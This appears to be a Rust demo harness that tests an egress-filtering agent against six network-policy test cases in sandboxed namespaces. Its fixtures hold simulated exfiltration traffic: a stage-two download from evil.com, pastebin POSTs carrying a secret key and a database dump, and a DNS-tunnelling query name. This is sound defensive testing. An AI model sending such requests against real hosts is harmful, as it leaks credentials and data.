//! egress-demo: MCP-NET-02's six dynamic test cases, played offline against the real agent.
//!
//! It builds a small world in network namespaces (the workload's namespace and a "remote"
//! one holding stand-ins for api.company.com, evil.com, pastebin.com, database.internal and
//! a rogue DNS resolver, plus a DNS server, dnsmasq, that answers those names), and runs two
//! workloads as uid nobody under `egress-agent exec` with MCP-NET-02's example policy
//! verbatim (policies/mcp-net-02-example.yaml: its resolver 10.0.0.53 and a host of its denied
//! range 10.0.0.0/8 are played inside the demo's namespaces):
//! `egress-probe`, which connects and sends by address, and `egress-dns-client`, which
//! sends DNS queries the way a resolver library does. With `dns_policy` the kernel hands every
//! DNS query of the workload (UDP and TCP port 53, any address) to the agent's DNS proxy: the
//! proxy resolves only names the policy allows, only through the allowed resolver, and
//! answers NXDOMAIN for the rest without asking anyone. For each case the demo reports what
//! the workload's syscalls and queries returned, what reached the listeners and the DNS
//! server, and what the agent logged. A control run of the same attempts without the agent
//! first shows that every destination and resolver is reachable and every name resolves, so
//! a block is the agent's doing and not a broken network. Case 4 (rate limits) is a burst
//! of 101 connections under the policy's own `rate_limits`.
//!
//! Run it with `cargo xtask demo` (root). Exit status: 0 when every enforced case passes,
//! 1 when one fails or the world cannot be built, 130 when interrupted (after clean-up).
//! Everything it creates (namespaces, cgroups, processes, temp files) is owned by guards and
//! removed on the way out, also on failure.

#![expect(
    clippy::print_stdout,
    reason = "the demo's report on stdout is its whole purpose"
)]

use std::fmt::Write as _;
use std::io::{Read as _, Write as _};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Mutex, PoisonError};
use std::time::Duration;

use anyhow::{Context as _, Result, bail};
use egress_tests::agent::{AgentRun, agent_bin, workspace_root};
use egress_tests::dnsmasq::Dnsmasq;
use egress_tests::probe::{ProbeResult, errno_name};
use egress_tests::process::RunOutput;
use egress_tests::server::{Listener, contains};
use egress_tests::testbed::{Testbed, run_probe_as_nobody};
use serde_json::Value;

/// The policy the demo enforces, relative to the workspace root.
const POLICY: &str = "policies/mcp-net-02-example.yaml";
/// The DNS workload, built next to the demo.
const DNS_CLIENT: &str = "egress-dns-client";
/// How long the DNS client waits for an answer under the agent (the proxy answers at once).
const DNS_TIMEOUT_MS: u64 = 2000;
/// ... and in the control run, where the rogue resolver (a bare listener) never answers.
const CONTROL_DNS_TIMEOUT_MS: u64 = 300;
/// A query that carries a secret out in its name, to a resolver the workload chose.
const EXFIL_NAME: &str = "akiaiosfodnn7example.secret.evil.com";
/// How long an allowed attempt's bytes may take to reach the listener.
const ARRIVAL_WAIT: Duration = Duration::from_secs(3);
/// Deadline for the agent run (start-up, the attempts, shut-down).
const AGENT_TIMEOUT: Duration = Duration::from_secs(60);
const EXIT_INTERRUPTED: u8 = 130;
/// The agent's Prometheus endpoint, inside the workload's namespace.
const METRICS_ADDR: SocketAddr = SocketAddr::new(IpAddr::V4(Ipv4Addr::LOCALHOST), 9464);
/// How long the workload stays after its attempts, so that the metrics can be scraped.
const LINGER: Duration = Duration::from_millis(1500);
const SCRAPE_EVERY: Duration = Duration::from_millis(100);
/// Case 4: MCP-NET-02's "101 connections in 60 seconds".
const BURST: usize = 101;

const API_V4: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 10);
const API_V6: Ipv6Addr = Ipv6Addr::new(0xfd00, 0xe9, 0, 0, 0, 0, 0, 0x10);
const DATABASE: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 20);
const EVIL: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 66);
const PASTEBIN: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 67);
const ROGUE_RESOLVER: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 99);
/// The demo's own DNS server (dnsmasq in the remote namespace) at the policy's first
/// `allowed_resolvers` address, which the agent asks.
const DNS_SERVER: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 53);
/// A host inside the policy's denied range 10.0.0.0/8.
const DENIED_RANGE_HOST: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 5);

/// What the demo's DNS server answers, and nothing else.
const DNS_RECORDS: [(&str, IpAddr); 5] = [
    ("api.company.com", IpAddr::V4(API_V4)),
    ("api.company.com", IpAddr::V6(API_V6)),
    ("database.internal", IpAddr::V4(DATABASE)),
    ("evil.com", IpAddr::V4(EVIL)),
    ("pastebin.com", IpAddr::V4(PASTEBIN)),
];

#[derive(Clone, Copy, PartialEq, Eq)]
enum Proto {
    Tcp,
    Udp,
}

/// A listener in the remote namespace, standing in for a service.
struct Service {
    /// A host name the demo's DNS server answers with this address, or a description.
    name: &'static str,
    addr: SocketAddr,
    proto: Proto,
}

const fn service(name: &'static str, ip: IpAddr, port: u16, proto: Proto) -> Service {
    Service {
        name,
        addr: SocketAddr::new(ip, port),
        proto,
    }
}

impl Service {
    /// `api.company.com (198.18.0.10):443` for a name the DNS server answers with this
    /// address, else `rogue resolver 198.18.0.99:53`.
    fn dest(&self) -> String {
        let (ip, port) = (self.addr.ip(), self.addr.port());
        if DNS_RECORDS.contains(&(self.name, ip)) {
            format!("{} ({ip}):{port}", self.name)
        } else {
            format!("{} {}", self.name, self.addr)
        }
    }
}

const SERVICES: [Service; 12] = [
    service("api.company.com", IpAddr::V4(API_V4), 443, Proto::Tcp),
    service("api.company.com", IpAddr::V6(API_V6), 443, Proto::Tcp),
    service("api.company.com", IpAddr::V4(API_V4), 80, Proto::Tcp),
    service("api.company.com", IpAddr::V6(API_V6), 80, Proto::Tcp),
    service("database.internal", IpAddr::V4(DATABASE), 5432, Proto::Tcp),
    service("evil.com", IpAddr::V4(EVIL), 443, Proto::Tcp),
    service(
        "denied range",
        IpAddr::V4(DENIED_RANGE_HOST),
        443,
        Proto::Tcp,
    ),
    service("rogue resolver", IpAddr::V4(ROGUE_RESOLVER), 53, Proto::Udp),
    service("pastebin.com", IpAddr::V4(PASTEBIN), 443, Proto::Tcp),
    service("pastebin.com", IpAddr::V4(PASTEBIN), 80, Proto::Tcp),
    service("rogue resolver", IpAddr::V4(ROGUE_RESOLVER), 53, Proto::Tcp),
    service(
        "rogue resolver (DNS over TLS)",
        IpAddr::V4(ROGUE_RESOLVER),
        853,
        Proto::Tcp,
    ),
];
/// Indices into [`SERVICES`] of the rogue resolver's port-53 listeners.
const ROGUE_UDP: usize = 7;
const ROGUE_TCP: usize = 10;

#[derive(Clone, Copy, PartialEq, Eq)]
enum Expect {
    Allowed,
    Blocked,
    /// Port 53: the send succeeds, but the kernel hands the datagram to the agent's DNS
    /// proxy, so nothing reaches the destination.
    Redirected,
}

/// One thing the workload tries: a probe op against one service.
struct Attempt {
    case: u8,
    /// Index into [`SERVICES`].
    service: usize,
    /// Probe op verb and socket kind, e.g. `send tcp4`.
    how: &'static str,
    /// What is sent; tagged per run so each run's bytes can be told apart.
    body: &'static str,
    expect: Expect,
}

const ATTEMPTS: [Attempt; 13] = [
    Attempt {
        case: 1,
        service: 0,
        how: "send tcp4",
        body: "GET /v1/status HTTP/1.1 Host: api.company.com",
        expect: Expect::Allowed,
    },
    Attempt {
        case: 1,
        service: 1,
        how: "send tcp6",
        body: "GET /v1/status HTTP/1.1 Host: api.company.com",
        expect: Expect::Allowed,
    },
    Attempt {
        case: 1,
        service: 4,
        how: "send tcp4",
        body: "SELECT 1;",
        expect: Expect::Allowed,
    },
    Attempt {
        case: 2,
        service: 5,
        how: "send tcp4",
        body: "GET /stage2.bin HTTP/1.1 Host: evil.com",
        expect: Expect::Blocked,
    },
    Attempt {
        case: 2,
        // An AF_INET6 socket to ::ffff:198.18.0.66: the same host through the other hook.
        service: 5,
        how: "send tcp6",
        body: "GET /stage2.bin HTTP/1.1 Host: evil.com (IPv4-mapped)",
        expect: Expect::Blocked,
    },
    Attempt {
        case: 2,
        service: 6,
        how: "send tcp4",
        body: "GET / HTTP/1.1 Host: 10.0.0.5",
        expect: Expect::Blocked,
    },
    Attempt {
        case: 3,
        service: 7,
        how: "sendto udp4",
        body: "not a DNS message, to UDP port 53",
        expect: Expect::Redirected,
    },
    Attempt {
        case: 3,
        service: 7,
        how: "udpconnect-send udp4",
        body: "not a DNS message, to UDP port 53 (connected socket)",
        expect: Expect::Redirected,
    },
    Attempt {
        case: 3,
        service: 11,
        how: "send tcp4",
        body: "DNS over TLS ClientHello",
        expect: Expect::Blocked,
    },
    Attempt {
        case: 5,
        service: 8,
        how: "send tcp4",
        body: "POST /api/api_post.php HTTP/1.1 Host: pastebin.com api_paste_code=AWS_SECRET_ACCESS_KEY%3D...",
        expect: Expect::Blocked,
    },
    Attempt {
        case: 5,
        service: 9,
        how: "send tcp4",
        body: "POST /api/api_post.php HTTP/1.1 Host: pastebin.com api_paste_code=customer-db-dump",
        expect: Expect::Blocked,
    },
    Attempt {
        case: 6,
        service: 2,
        how: "send tcp4",
        body: "GET /v1/status HTTP/1.1 Host: api.company.com (plain HTTP)",
        expect: Expect::Blocked,
    },
    Attempt {
        case: 6,
        service: 3,
        how: "send tcp6",
        body: "GET /v1/status HTTP/1.1 Host: api.company.com (plain HTTP, IPv6)",
        expect: Expect::Blocked,
    },
];

/// MCP-NET-02's dynamic test cases, as the standard words them.
const CASES: [(u8, &str); 6] = [
    (
        1,
        "Allowed connection: connect to api.company.com:443 -> success",
    ),
    (
        2,
        "Blocked connection: connect to evil.com:443 -> refused (and a denied range)",
    ),
    (
        3,
        "DNS filtering: query an unauthorized DNS server -> blocked",
    ),
    (
        4,
        "Rate limiting: 101 connections in 60 seconds -> last one blocked",
    ),
    (5, "Data exfiltration: POST to pastebin.com -> blocked"),
    (
        6,
        "Protocol enforcement: HTTP to an HTTPS-only host -> blocked",
    ),
];

/// What a DNS query of the workload should get.
#[derive(Clone, Copy, PartialEq, Eq)]
enum DnsExpect {
    /// NOERROR with this address among the answers, appearing to come from the server asked.
    Resolves(IpAddr),
    /// NXDOMAIN, and the demo's DNS server never sees the name.
    NxDomain,
}

/// One DNS query of the `egress-dns-client` workload.
struct DnsAttempt {
    case: u8,
    /// `udp` (connected socket), `udp-sendto` or `tcp`.
    transport: &'static str,
    server: Ipv4Addr,
    name: &'static str,
    expect: DnsExpect,
}

const fn dns_attempt(
    case: u8,
    transport: &'static str,
    server: Ipv4Addr,
    name: &'static str,
    expect: DnsExpect,
) -> DnsAttempt {
    DnsAttempt {
        case,
        transport,
        server,
        name,
        expect,
    }
}

const DNS_ATTEMPTS: [DnsAttempt; 7] = [
    dns_attempt(
        1,
        "udp",
        DNS_SERVER,
        "api.company.com",
        DnsExpect::Resolves(IpAddr::V4(API_V4)),
    ),
    dns_attempt(2, "udp", DNS_SERVER, "evil.com", DnsExpect::NxDomain),
    dns_attempt(
        3,
        "udp",
        ROGUE_RESOLVER,
        "api.company.com",
        DnsExpect::Resolves(IpAddr::V4(API_V4)),
    ),
    dns_attempt(
        3,
        "udp-sendto",
        ROGUE_RESOLVER,
        "api.company.com",
        DnsExpect::Resolves(IpAddr::V4(API_V4)),
    ),
    dns_attempt(
        3,
        "tcp",
        ROGUE_RESOLVER,
        "api.company.com",
        DnsExpect::Resolves(IpAddr::V4(API_V4)),
    ),
    dns_attempt(3, "udp", ROGUE_RESOLVER, EXFIL_NAME, DnsExpect::NxDomain),
    dns_attempt(5, "udp", DNS_SERVER, "pastebin.com", DnsExpect::NxDomain),
];

impl DnsAttempt {
    /// The client's step.
    fn step(&self) -> String {
        format!("query {} {} {} A", self.transport, self.server, self.name)
    }

    fn rogue(&self) -> bool {
        self.server == ROGUE_RESOLVER
    }

    /// `A? pastebin.com -> allowed resolver 10.0.0.53:53`, for messages.
    fn describe(&self) -> String {
        format!("A? {} -> {} {}:53", self.name, self.role(), self.server)
    }

    fn role(&self) -> &'static str {
        if self.rogue() {
            "rogue resolver"
        } else {
            "allowed resolver"
        }
    }

    /// `udp-sendto to 198.18.0.99:53`
    fn how(&self) -> String {
        format!("{} to {}:53", self.transport, self.server)
    }

    /// The rogue resolver's listener this query would reach.
    fn rogue_listener(&self) -> usize {
        if self.transport == "tcp" {
            ROGUE_TCP
        } else {
            ROGUE_UDP
        }
    }
}

static INTERRUPTED: AtomicBool = AtomicBool::new(false);

extern "C" fn on_interrupt(_signal: libc::c_int) {
    INTERRUPTED.store(true, Ordering::SeqCst);
}

fn main() -> ExitCode {
    if let Err(e) = catch_interrupts() {
        eprintln!("egress-demo: {e:#}");
        return ExitCode::FAILURE;
    }
    let outcome = demo();
    // Every guard (namespaces, cgroups, listeners, temp files) has been dropped by now.
    if INTERRUPTED.load(Ordering::SeqCst) {
        eprintln!("egress-demo: interrupted; everything the demo created has been removed");
        return ExitCode::from(EXIT_INTERRUPTED);
    }
    match outcome {
        Ok(true) => ExitCode::SUCCESS,
        Ok(false) => ExitCode::FAILURE,
        Err(e) => {
            eprintln!("egress-demo: error: {e:#}");
            ExitCode::FAILURE
        }
    }
}

/// SIGINT/SIGTERM/SIGHUP only set a flag: the run is bounded (the agent has a deadline), and
/// dying mid-way would leave namespaces and cgroups behind. Handlers reset on exec, so the
/// agent and the workload keep the default dispositions.
fn catch_interrupts() -> Result<()> {
    use nix::sys::signal::{SaFlags, SigAction, SigHandler, SigSet, Signal, sigaction};
    let action = SigAction::new(
        SigHandler::Handler(on_interrupt),
        SaFlags::SA_RESTART,
        SigSet::empty(),
    );
    for signal in [Signal::SIGINT, Signal::SIGTERM, Signal::SIGHUP] {
        // SAFETY: the handler only stores to an atomic, which is async-signal-safe.
        unsafe { sigaction(signal, &action) }.with_context(|| format!("handling {signal}"))?;
    }
    Ok(())
}

/// Returns whether every enforced case passed.
fn demo() -> Result<bool> {
    if !nix::unistd::geteuid().is_root() {
        bail!(
            "the demo needs root: it creates network namespaces, veth links and cgroups, and the \
             agent loads eBPF programs; run `cargo xtask demo` as root"
        );
    }
    let root = workspace_root();
    let policy_file = root.join(POLICY);
    let file_text = std::fs::read_to_string(&policy_file)
        .with_context(|| format!("reading {}", policy_file.display()))?;
    let agent = agent_bin()?;
    let probe = probe_bin()?;
    let dns_client_bin = sibling_bin(DNS_CLIENT, "EGRESS_DNS_CLIENT_BIN")?;

    println!("egress demo: MCP-NET-02 dynamic test cases, offline, against the real agent");
    println!("{}", "=".repeat(78));
    let tb = Testbed::new(&probe).context("building the demo world")?;
    let dns_client = StagedBinary::new(&dns_client_bin)?;
    let listeners = build_world(&tb)?;
    // Declared after `tb`, so dropped before the namespace it runs in is deleted.
    let dns = start_dns(&tb)?;
    let resolv_conf = write_resolv_conf()?;
    let policy = policy_file.clone();
    print_world(&tb);
    print_policy(&file_text);

    control_run(&tb, &listeners)?;
    dns_control_run(&tb, dns_client.path(), &listeners)?;
    if INTERRUPTED.load(Ordering::SeqCst) {
        return Ok(false);
    }

    // Bytes and DNS queries from here on belong to the agent runs.
    let before: Vec<usize> = listeners.iter().map(|l| l.received().len()).collect();
    let dns_before = dns.queries().len();
    println!(
        "\nThe same attempts under the agent, in two runs (connections, then DNS queries):\n  {} \
         exec --policy {POLICY} --user nobody --resolv-conf FILE -- egress-probe OPS...\n  {} \
         exec --policy {POLICY} --user nobody --resolv-conf FILE -- egress-dns-client QUERIES...\n  \
         (FILE: `nameserver {DNS_SERVER}`, the demo's DNS server)",
        agent.display(),
        agent.display(),
    );
    let ops: Vec<String> = ATTEMPTS.iter().map(|a| op(a, "demo")).collect();
    let agent_run = scraped_agent_run(&policy, &tb, tb.probe.path(), resolv_conf.path())?
        .args(&ops)
        // Keeps the agent (and its metrics endpoint) up for a last scrape after the attempts.
        .arg(format!("sleep {}", LINGER.as_millis()))
        .timeout(AGENT_TIMEOUT);
    let (run, metrics) = run_scraping_metrics(&agent_run, &tb)?;
    std::thread::sleep(egress_tests::server::SETTLE);

    // The DNS run: the rogue resolver's listeners and the DNS server's log are read against
    // what they had before it.
    let rogue_before = [ROGUE_UDP, ROGUE_TCP].map(|i| listeners[i].connections());
    let dns_run_before = dns.queries().len();
    let steps: Vec<String> = DNS_ATTEMPTS.iter().map(DnsAttempt::step).collect();
    let dns_agent_run = scraped_agent_run(&policy, &tb, dns_client.path(), resolv_conf.path())?
        .arg("--timeout-ms")
        .arg(DNS_TIMEOUT_MS.to_string())
        .args(&steps)
        .arg(format!("sleep {}", LINGER.as_millis()))
        .timeout(AGENT_TIMEOUT);
    let (dns_run, dns_metrics) = run_scraping_metrics(&dns_agent_run, &tb)?;
    std::thread::sleep(egress_tests::server::SETTLE);
    let rogue_new: usize = [ROGUE_UDP, ROGUE_TCP]
        .iter()
        .zip(rogue_before)
        .map(|(&i, n)| listeners[i].connections() - n)
        .sum();
    let mut upstream = dns.queries();
    let upstream = upstream.split_off(dns_run_before.min(upstream.len()));
    let dns_results = client_results(&dns_run);
    let dns_seen = DnsSeen {
        run: &dns_run,
        results: &dns_results,
        rogue_new,
        upstream: &upstream,
    };

    let mut all_passed = true;
    let mut rate_limits_enforced = None;
    for &(case, title) in &CASES {
        println!("\nCase {case}. {title}");
        if case == 3 {
            print_case3_explanation();
        }
        if case == 4 {
            rate_limits_enforced =
                rate_limit_case(&agent, &tb, &file_text, resolv_conf.path(), &listeners[0])?;
            all_passed &= rate_limits_enforced.unwrap_or(true);
            continue;
        }
        for (attempt, op) in ATTEMPTS.iter().zip(&ops).filter(|(a, _)| a.case == case) {
            let listener = &listeners[attempt.service];
            let new = listener
                .wait_for(
                    payload(attempt, "demo").as_bytes(),
                    if attempt.expect == Expect::Allowed {
                        ARRIVAL_WAIT
                    } else {
                        Duration::ZERO
                    },
                )
                .split_off(before[attempt.service]);
            let passed = report_attempt(attempt, run.result(op), &new, &payload(attempt, "demo"));
            if attempt.expect == Expect::Blocked {
                print_logged_event(&run, attempt);
            }
            all_passed &= passed;
        }
        for attempt in DNS_ATTEMPTS.iter().filter(|a| a.case == case) {
            all_passed &= report_dns_attempt(attempt, &dns_seen);
        }
    }

    print_agent_output("connections", &run);
    print_agent_output("DNS queries", &dns_run);
    print_dns_queries(&dns, dns_before);
    print_counters(&run);
    print_metrics("connections", metrics.as_deref(), "egress_");
    print_metrics("DNS queries", dns_metrics.as_deref(), "egress_dns");
    print_blocked_in_log(&run);
    all_passed &= agent_exit_ok(&run);
    all_passed &= agent_exit_ok(&dns_run);
    if !INTERRUPTED.load(Ordering::SeqCst) {
        all_passed &= learn_then_enforce(&agent, &tb, resolv_conf.path(), &listeners)?;
    }

    println!("\n{}", "=".repeat(78));
    if all_passed && rate_limits_enforced.is_some() {
        println!("RESULT: PASS: all six cases are enforced as MCP-NET-02 expects.");
    } else if all_passed {
        println!(
            "RESULT: PASS: cases 1, 2, 3, 5 and 6 are enforced as MCP-NET-02 expects; case 4 (rate \
             limits) is NOT YET ENFORCED by this version."
        );
    } else {
        println!(
            "RESULT: FAIL: at least one enforced case did not behave as expected (see above)."
        );
    }
    Ok(all_passed)
}

/// The learn -> enforce flow: `learn` runs a workload in audit mode from an allow-nothing
/// policy and writes what it used; the same workload enforced under that policy meets no
/// denial, and a destination it never used is refused.
fn learn_then_enforce(
    agent: &Path,
    tb: &Testbed,
    resolv_conf: &Path,
    listeners: &[Listener],
) -> Result<bool> {
    const RUN: [&str; 2] = [
        "resolve udp4 10.0.0.53 api.company.com A then-connect tcp4 443 learned-api",
        "send tcp4 198.18.0.20 5432 learned-db",
    ];
    const NEVER: &str = "send tcp4 198.18.0.66 443 never-used";
    println!(
        "
Learn, then enforce: a policy generated from what a workload really does"
    );
    let dir = tempfile::tempdir().context("a directory for the learned policy")?;
    let learned = dir.path().join("learned.yaml");
    println!(
        "  {} learn --out learned.yaml --user nobody --resolv-conf FILE -- egress-probe \\",
        agent.display()
    );
    println!("      '{}' \\", RUN[0]);
    println!("      '{}'", RUN[1]);
    let learn_run = egress_tests::agent::run_learn(
        tb.client(),
        &learned,
        &tb.cgroups,
        &["--resolv-conf".as_ref(), resolv_conf.as_os_str()],
        tb.probe.path(),
        &RUN,
    )?;
    let mut passed = agent_exit_ok(&learn_run);
    let audited = log_objects(&learn_run)
        .filter(|o| o.get("event").and_then(Value::as_str) == Some("egress_audit"))
        .count();
    println!(
        "  audit mode let {audited} attempt(s) the allow-nothing policy denies through, logged \
         with verdict audit; the workload's operations: {}",
        RUN.iter()
            .map(|op| match learn_run.result(op) {
                Some(r) if r.ok => "ok".to_owned(),
                Some(r) => format!("failed ({})", r.errno.map_or("?".into(), errno_name)),
                None => "no result".to_owned(),
            })
            .collect::<Vec<_>>()
            .join(", ")
    );
    let text = std::fs::read_to_string(&learned)
        .with_context(|| format!("reading {}", learned.display()))?;
    println!("  learned.yaml:");
    for line in text.lines() {
        println!("    {line}");
    }
    let check = Command::new(agent)
        .arg("check")
        .arg(&learned)
        .output()
        .context("running check")?;
    println!(
        "  check learned.yaml: {}",
        if check.status.success() {
            "OK"
        } else {
            "REFUSED"
        }
    );
    passed &= check.status.success();

    let before = [0, 4, 5].map(|i| listeners[i].received().len());
    let enforced = AgentRun::new(&learned, &tb.cgroups, tb.probe.path())?
        .agent_arg("--resolv-conf")
        .agent_arg(resolv_conf)
        .json_log()
        .args(RUN)
        .arg(NEVER)
        .timeout(AGENT_TIMEOUT)
        .run_in(tb.client())?;
    passed &= agent_exit_ok(&enforced);
    let arrived = |i: usize, k: usize, what: &str| {
        let got = listeners[i].wait_for(what.as_bytes(), ARRIVAL_WAIT);
        contains(&got[before[k].min(got.len())..], what.as_bytes())
    };
    let same_run_ok = RUN
        .iter()
        .all(|op| enforced.result(op).is_some_and(|r| r.ok))
        && arrived(0, 0, "learned-api")
        && arrived(4, 1, "learned-db");
    let never_refused = enforced
        .result(NEVER)
        .is_some_and(|r| r.errno == Some(libc::EPERM))
        && listeners[5].received().len() == before[2];
    let blocked: Vec<LogObject> = log_objects(&enforced)
        .filter(|o| o.get("event").and_then(Value::as_str) == Some("egress_blocked"))
        .collect();
    let only_never = blocked.len() == 1
        && blocked[0].get("dst.ip").and_then(Value::as_str) == Some("198.18.0.66");
    println!(
        "  enforced rerun under learned.yaml: the same run {}; {} blocked attempt(s) logged; \
         evil.com (198.18.0.66:443), never used, {}",
        if same_run_ok {
            "passes, bytes arrived"
        } else {
            "FAILED"
        },
        blocked.len(),
        if never_refused {
            "got EPERM, nothing arrived"
        } else {
            "was NOT refused"
        }
    );
    let ok = same_run_ok && never_refused && only_never;
    println!("  learn -> enforce: {}", if ok { "PASS" } else { "FAIL" });
    Ok(passed && ok)
}

/// `egress-agent exec` of `program` under `policy`, resolving through the demo's DNS server,
/// logging JSON and serving metrics for [`run_scraping_metrics`].
fn scraped_agent_run(
    policy: &Path,
    tb: &Testbed,
    program: &Path,
    resolv_conf: &Path,
) -> Result<AgentRun> {
    Ok(AgentRun::new(policy, &tb.cgroups, program)?
        .agent_arg("--resolv-conf")
        .agent_arg(resolv_conf)
        .agent_arg("--log-format")
        .agent_arg("json")
        .agent_arg("--metrics-addr")
        .agent_arg(METRICS_ADDR.to_string()))
}

fn print_policy(policy_text: &str) {
    println!("\nPolicy {POLICY} (comments left out):");
    for line in policy_text
        .lines()
        .filter(|l| !l.trim_start().starts_with('#') && !l.trim().is_empty())
    {
        println!("  | {line}");
    }
}

fn print_case3_explanation() {
    println!(
        "  With dns_policy, the kernel hands every DNS query of the workload (UDP and TCP port 53, \
         to any\n  address) to the agent's DNS proxy. The proxy resolves only names the policy \
         allows, and only\n  through dns_policy.allowed_resolvers ({DNS_SERVER}); any other name \
         gets NXDOMAIN without a query\n  leaving the machine. So a resolver the workload picks \
         itself receives nothing, the workload\n  gets the proxy's answer (which appears to come \
         from the address it asked), a secret encoded in\n  a query name goes nowhere, and DNS \
         over TLS (port 853) is refused (block_dot)."
    );
}

/// What the DNS run produced, for the per-attempt reports.
struct DnsSeen<'a> {
    run: &'a RunOutput,
    /// The client's JSON lines.
    results: &'a [Value],
    /// Datagrams and connections that reached the rogue resolver's port-53 listeners during
    /// the run.
    rogue_new: usize,
    /// The demo DNS server's query log lines written during the run.
    upstream: &'a [String],
}

/// The DNS client's JSON lines from a run's stdout.
fn client_results(run: &RunOutput) -> Vec<Value> {
    run.stdout
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|v| v.get("step").is_some())
        .collect()
}

fn client_result<'a>(results: &'a [Value], step: &str) -> Option<&'a Value> {
    results.iter().find(|v| v["step"].as_str() == Some(step))
}

/// True when one of the DNS server's query log lines asks for `name`.
fn upstream_asked(upstream: &[String], name: &str) -> bool {
    let needle = format!("] {} ", name.to_ascii_lowercase());
    upstream
        .iter()
        .any(|l| l.to_ascii_lowercase().contains(&needle))
}

/// `NOERROR 198.18.0.10` / `NXDOMAIN (EDE 15 Blocked)` / `timeout`.
fn describe_answer(v: Option<&Value>) -> String {
    let Some(v) = v else {
        return "did not run".to_owned();
    };
    if v["ok"] != Value::Bool(true) {
        return v["error"].as_str().unwrap_or("failed").to_owned();
    }
    let mut out = v["rcode"].as_str().unwrap_or("?").to_owned();
    if let Some(addrs) = v["addresses"].as_array().filter(|a| !a.is_empty()) {
        let list: Vec<&str> = addrs.iter().filter_map(Value::as_str).collect();
        let _ = write!(out, " {}", list.join(","));
    }
    if let Some(code) = v["ede"]["code"].as_u64() {
        let _ = write!(
            out,
            " (EDE {code}{}{})",
            if v["ede"]["text"].as_str().is_some_and(|t| !t.is_empty()) {
                " "
            } else {
                ""
            },
            v["ede"]["text"].as_str().unwrap_or_default()
        );
    }
    out
}

/// Prints one DNS attempt under the agent and returns whether it behaved as expected. Every
/// verdict comes from what was observed: the client's answer, the rogue resolver's listeners
/// and the DNS server's log.
fn report_dns_attempt(attempt: &DnsAttempt, seen: &DnsSeen<'_>) -> bool {
    let result = client_result(seen.results, &attempt.step());
    let answered = result.is_some_and(|v| v["ok"] == Value::Bool(true));
    let rcode = result.and_then(|v| v["rcode"].as_str()).unwrap_or_default();
    let from = result.and_then(|v| v["from"].as_str()).unwrap_or_default();
    let asked = format!("{}:53", attempt.server);
    let rogue_quiet = !attempt.rogue() || seen.rogue_new == 0;
    let upstream_saw = upstream_asked(seen.upstream, attempt.name);
    // A query to a rogue resolver is a blocked attempt: the agent must log it as one.
    let logged = !attempt.rogue() || unauthorized_line(seen.run, attempt).is_some();
    let (passed, expected) = match attempt.expect {
        DnsExpect::Resolves(ip) => {
            let has_ip = result
                .and_then(|v| v["addresses"].as_array())
                .is_some_and(|a| a.iter().any(|x| x.as_str() == Some(&ip.to_string())));
            (
                answered && rcode == "NOERROR" && has_ip && from == asked && rogue_quiet && logged,
                format!("answer {ip}"),
            )
        }
        DnsExpect::NxDomain => (
            answered && rcode == "NXDOMAIN" && !upstream_saw && rogue_quiet && logged,
            "NXDOMAIN".to_owned(),
        ),
    };
    println!(
        "  {}  {:<38} {:<26} expect {expected:<19} got: {}{}",
        if passed { "PASS" } else { "FAIL" },
        format!("A? {}", attempt.name),
        attempt.how(),
        describe_answer(result),
        if answered && !from.is_empty() {
            format!(", from {from}")
        } else {
            String::new()
        }
    );
    if attempt.rogue() {
        println!(
            "        {} is a rogue resolver: {} during the DNS run",
            attempt.server,
            if seen.rogue_new == 0 {
                "nothing arrived there (0 datagrams, 0 connections)".to_owned()
            } else {
                format!("{} datagrams/connections arrived there", seen.rogue_new)
            }
        );
        match unauthorized_line(seen.run, attempt) {
            Some(line) => {
                let field = |key: &str| line.get(key).map(json_text).unwrap_or_default();
                println!(
                    "        logged: event={} reason={} dst={}:{} dns.name={} pid={} comm={}",
                    field("event"),
                    field("reason"),
                    field("dst.ip"),
                    field("dst.port"),
                    field("dns.name"),
                    field("pid"),
                    field("comm")
                );
            }
            None => println!(
                "        logged: no dns_unauthorized_resolver line for {} via {}",
                attempt.name, attempt.server
            ),
        }
    }
    match attempt.expect {
        DnsExpect::Resolves(_) if !attempt.rogue() => {
            let needle = format!("] {} ", attempt.name);
            let n = seen.upstream.iter().filter(|l| l.contains(&needle)).count();
            println!(
                "        {} is the allowed resolver: asked for {} {n} times during the DNS run \
                 (the agent's own lookups and its proxy's forwards)",
                attempt.server, attempt.name
            );
        }
        DnsExpect::Resolves(_) => {}
        DnsExpect::NxDomain => {
            println!(
                "        demo DNS server: {}",
                if upstream_saw {
                    format!("ASKED for {} (the name left the machine)", attempt.name)
                } else {
                    format!("no query for {} (never forwarded)", attempt.name)
                }
            );
            print_refusal(seen.run, attempt.name);
        }
    }
    if !passed && let Some(v) = result {
        println!("        client: {v}");
    }
    passed
}

/// The agent's blocked-attempt line for a query sent to a rogue resolver.
fn unauthorized_line(run: &RunOutput, attempt: &DnsAttempt) -> Option<LogObject> {
    let field = |f: &LogObject, key: &str| f.get(key).map(json_text);
    log_objects(run).find(|f| {
        field(f, "event").as_deref() == Some("egress_blocked")
            && field(f, "reason").as_deref() == Some("dns_unauthorized_resolver")
            && field(f, "dst.ip") == Some(attempt.server.to_string())
            && field(f, "dns.name")
                .is_some_and(|n| n.trim_end_matches('.').eq_ignore_ascii_case(attempt.name))
    })
}

/// Under a refused query: the agent's blocked-attempt line for its name. Informational.
fn print_refusal(run: &RunOutput, name: &str) {
    let field = |f: &LogObject, key: &str| f.get(key).map(json_text);
    let line = log_objects(run).find(|f| {
        field(f, "event").as_deref() == Some("egress_blocked")
            && field(f, "hook").as_deref() == Some("dns_proxy")
            && field(f, "reason").is_some_and(|r| r.starts_with("dns_name_"))
            && field(f, "dns.name")
                .is_some_and(|n| n.trim_end_matches('.').eq_ignore_ascii_case(name))
    });
    let Some(line) = line else {
        println!("        logged: no egress_blocked line for the name {name}");
        return;
    };
    let mut out = String::from("        logged:");
    for key in ["event", "reason", "result", "dns.qtype", "policy"] {
        if let Some(v) = field(&line, key) {
            let _ = write!(out, " {key}={v}");
        }
    }
    println!("{out}");
}

